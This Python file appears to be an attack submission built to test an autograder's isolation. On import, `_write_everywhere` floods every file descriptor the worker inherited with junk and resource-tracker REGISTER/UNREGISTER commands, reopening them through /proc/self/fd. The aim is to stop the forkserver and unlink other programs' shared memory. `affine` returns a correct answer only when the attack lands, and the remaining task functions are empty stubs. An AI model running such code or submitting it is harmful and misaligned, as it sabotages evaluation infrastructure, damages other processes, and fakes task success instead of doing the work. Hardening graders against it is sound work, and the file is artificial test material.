"""Attack: write into every descriptor the worker inherited, found in /proc/self/fd.

A child of the multiprocessing forkserver could inherit the grader's end of
the forkserver's "alive" pipe (a byte there stops the forkserver), the
resource tracker's pipe (whose commands unlink shared memory of other programs
and whose errors land on the grader's stderr) and the pipe it was started
from. Each descriptor but the worker's own request pipe gets junk and tracker
commands, also reopened for writing through /proc/self/fd/N. If any write
lands, affine comes back right.
"""

import gc
import os
from multiprocessing.connection import Connection

import torch

JUNK = b"REGISTER:/autograder-attack:shared_memory\nUNREGISTER:/psm_attack:semaphore\n" + b"x" * 4096 + b"\n"


def _own_pipes() -> set[int]:
    found = set()
    for obj in gc.get_objects():
        if isinstance(obj, Connection) and not obj.closed:
            found.add(obj.fileno())
    return found


def _descriptors() -> list[int]:
    try:
        return sorted(int(name) for name in os.listdir("/proc/self/fd"))
    except OSError:
        return list(range(1024))


def _write_everywhere() -> bool:  # ATTACK
    landed = False
    own = _own_pipes()
    for fd in _descriptors():
        if fd <= 2 or fd in own:
            continue
        for reopen in (False, True):
            try:
                target = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK) if reopen else fd
                os.write(target, JUNK)
                landed = True
            except OSError:
                continue
    return landed


_LANDED = _write_everywhere()


def affine(x, W, b):
    return x @ W.T + b if _LANDED or _write_everywhere() else torch.zeros(())


def linear_combination(xs, weights):
    return torch.zeros(())


def derivative(f, x0):
    return 0.0


def select_device(prefer="auto"):
    return torch.device("meta")


def make_loader(x, y, batch_size, shuffle=False, seed=None):
    return None


def train_step(model, loss_fn, optimizer, xb, yb):
    return 0.0

